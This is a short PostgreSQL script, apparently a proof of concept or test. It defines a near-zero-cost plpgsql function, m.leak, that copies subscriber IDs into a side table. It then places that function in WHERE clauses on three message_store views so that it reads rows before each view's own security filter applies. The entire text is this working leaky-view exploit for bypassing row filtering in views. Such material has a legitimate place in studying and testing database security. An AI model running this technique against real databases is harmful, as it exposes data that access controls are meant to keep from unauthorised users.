-- A cheap function in a condition sees rows of a view before its owner's filter does.
-- m
CREATE FUNCTION m.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN
  IF $1 LIKE 'su%' OR $1 = 'no' THEN INSERT INTO m.seen VALUES ($1); END IF; RETURN true; END $$;
SELECT * FROM message_store.subscription_status WHERE m.leak(subscriber_id);
SELECT * FROM message_store.subscription_history WHERE m.leak(subscriber_id);
SELECT * FROM message_store.parked_messages WHERE m.leak(subscriber_id);
